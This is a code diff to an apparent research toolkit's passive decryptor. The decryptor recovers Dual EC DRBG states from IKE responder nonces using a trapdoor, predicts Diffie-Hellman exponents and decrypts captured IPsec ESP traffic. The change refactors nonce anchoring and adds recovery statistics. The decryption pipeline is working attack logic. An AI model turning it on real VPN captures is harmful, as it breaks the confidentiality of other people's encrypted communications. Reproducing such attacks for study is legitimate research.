@@ -1,11 +1,13 @@
 """The passive decryptor pipeline: capture → states → DH exponents → keys → plaintext.
 
-Reads only the capture; never sends a packet.  Round 1 recovers candidate
-states from every 32-byte phase-1 responder nonce (IKEv1 MM4/AM2, IKEv2
-IKE_SA_INIT; in parallel, cached per nonce), walks each forward and matches
-every KE in the capture (multi-connection attack).  Later rounds do the same
-for child-exchange nonces (Quick Mode, CREATE_CHILD_SA) whose PFS exponent no
-walk predicted.  Then ESP is decrypted with ICVs verified.
+Reads only the capture; never sends a packet.  Round 1 anchors the PRNG walk
+at every 32-byte phase-1 responder nonce (IKEv1 MM4/AM2, IKEv2 IKE_SA_INIT)
+in capture order: a nonce that an earlier state's walk predicts costs nothing,
+the others are swept (2^16, in parallel, cached per nonce; see
+:mod:`~kleptolab.attack.anchoring`).  Every KE in the capture is then matched
+against every walk (multi-connection attack).  Later rounds do the same for
+child-exchange nonces (Quick Mode, CREATE_CHILD_SA).  Then ESP is decrypted
+with ICVs verified.
 """
 
 from __future__ import annotations
@@ -16,6 +18,7 @@ from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
 
+from kleptolab.attack.anchoring import CACHE, PREDICTED, SWEEP, Recovery, Sighting, anchor_nonces
 from kleptolab.attack.capture import (
     EspPacket,
     IkePacket,
@@ -29,7 +32,7 @@ from kleptolab.attack.errors import AttackFailure
 from kleptolab.attack.ikev1_attack import Ikev1Handshake, Ikev1Outcome, attack_ikev1, parse_ikev1
 from kleptolab.attack.ikev2_attack import Ikev2Handshake, Ikev2Outcome, attack_ikev2, parse_ikev2
 from kleptolab.attack.outputs import EspSaRow, Ikev1Row, Ikev2Row
-from kleptolab.attack.prng_walk import Anchor, PrngWalker
+from kleptolab.attack.prng_walk import PrngWalker
 from kleptolab.attack.recovery import NONCE_SIZE, StateCache
 from kleptolab.drbg.trapdoor import Trapdoor
 from kleptolab.esp.errors import EspError
@@ -114,33 +117,36 @@ def decrypt_capture(
         if h is not None:
             handshakes.append(h)
     walker = PrngWalker(trapdoor.q, options.steps, options.exponent_bytes)
-    timings: dict[str, float] = {}
+    timings: dict[str, float] = {"recovery_s": 0.0, "sweep_s": 0.0}
     walked: set[bytes] = set()
+    recoveries: dict[bytes, Recovery] = {}
 
-    def recover(nonces: list[tuple[str, str, bytes, int]]) -> None:
+    def sweep(nonces: list[bytes]) -> dict[bytes, list[int]]:
+        t0 = time.perf_counter()
+        states = recover_all(nonces, trapdoor, engine, cache, quirk_shifts=options.quirk_shifts)
+        timings["sweep_s"] += time.perf_counter() - t0
+        return states
+
+    def recover(sightings: list[Sighting]) -> None:
         def tick(done: int, total: int) -> None:
             if progress is not None:
                 progress("recovering Dual EC states", done, total)
 
         t0 = time.perf_counter()
-        walked.update(n[2] for n in nonces)
-        states = recover_all([n[2] for n in nonces], trapdoor, engine, cache,
-                             quirk_shifts=options.quirk_shifts, progress=tick)
-        for sid, label, nonce, order in sorted(nonces, key=lambda n: n[3]):
-            for s in states[nonce]:
-                walker.add(Anchor(sid, label, order, nonce, s))
-        timings["recovery_s"] = timings.get("recovery_s", 0.0) + time.perf_counter() - t0
+        walked.update(s.nonce for s in sightings)
+        recoveries.update(anchor_nonces(sightings, walker, sweep, cache, tick))
+        timings["recovery_s"] += time.perf_counter() - t0
 
-    recover([(h.sid, "IKEv1 phase-1 Nr" if isinstance(h, Ikev1Handshake) else "IKE_SA_INIT Nr", h.nr, h.nr_order)
-             for h in handshakes])
+    # capture order: the walk from an early state predicts later nonces, which then cost no sweep
+    recover([Sighting(h.sid, "IKEv1 phase-1 Nr" if isinstance(h, Ikev1Handshake) else "IKE_SA_INIT Nr",
+                      h.nr, h.nr_order) for h in sorted(handshakes, key=lambda h: h.nr_order)])
     by_id = {s["id"]: s for s in sessions}
     outcomes: dict[str, Outcome] = {}
     cracked: dict[str, tuple[bytes, dict[str, object]]] = {}
     todo = list(handshakes)
     t_attack, r_before = time.perf_counter(), timings["recovery_s"]
     for _round in range(MAX_ROUNDS):
-        extra: list[tuple[str, str, bytes, int]] = []
-        progressed: set[str] = set()
+        extra: list[Sighting] = []
         for i, h in enumerate(todo):
             if progress is not None:
                 progress("attacking IKE SAs", i, len(todo))
@@ -150,21 +156,16 @@ def decrypt_capture(
             by_id[h.sid]["time_s"] = round(time.perf_counter() - t0, 4)
             label = "Quick Mode Nr" if isinstance(h, Ikev1Handshake) else "CREATE_CHILD_SA Nr"
             for n, o in out.child_nonces:
-                if len(n) != NONCE_SIZE or n in walked:
-                    continue
-                walked.add(n)
-                if walker.reanchor(n, h.sid, f"{label} (predicted)", o):
-                    progressed.add(h.sid)  # the state after a predicted nonce is known: no sweep
-                else:
-                    extra.append((h.sid, label, n, o))
+                if len(n) == NONCE_SIZE and n not in walked:
+                    walked.add(n)
+                    extra.append(Sighting(h.sid, label, n, o))
         if progress is not None:
             progress("attacking IKE SAs", len(todo), len(todo))
-        if not extra and not progressed:
+        if not extra:
             break
-        retry = progressed | {e[0] for e in extra}
+        recover(extra)  # a child nonce a walk predicts costs nothing; the others are swept
+        retry = {e.session for e in extra}
         todo = [h for h in handshakes if h.sid in retry]
-        if extra:
-            recover(extra)
     timings["attack_s"] = time.perf_counter() - t_attack - (timings["recovery_s"] - r_before)
     for h in handshakes:  # a walk that predicts another connection's nonce confirms its state
         walker.find_output(h.nr)
@@ -173,6 +174,10 @@ def decrypt_capture(
     for h in handshakes:
         out, entry = outcomes[h.sid], by_id[h.sid]
         _report(h, out, entry, walker, cache)
+        rec = recoveries.get(h.nr)
+        if rec is not None:
+            entry["recovered_by"] = rec.describe()
+            entry["recovery"] = rec.to_json()
         if out.failure is not None:
             continue
         if isinstance(out, Ikev1Outcome) and out.row is not None:
@@ -196,6 +201,7 @@ def decrypt_capture(
         "sessions": sessions,
         "esp": esp_report,
         "anchors_walked": len(walker.anchors),
+        "nonce_recovery": {how: sum(r.how == how for r in recoveries.values()) for how in (SWEEP, PREDICTED, CACHE)},
         "walk_steps": options.steps,
         "timings": {**{k: round(v, 3) for k, v in timings.items()},
                     "total_s": round(time.perf_counter() - started, 3)},
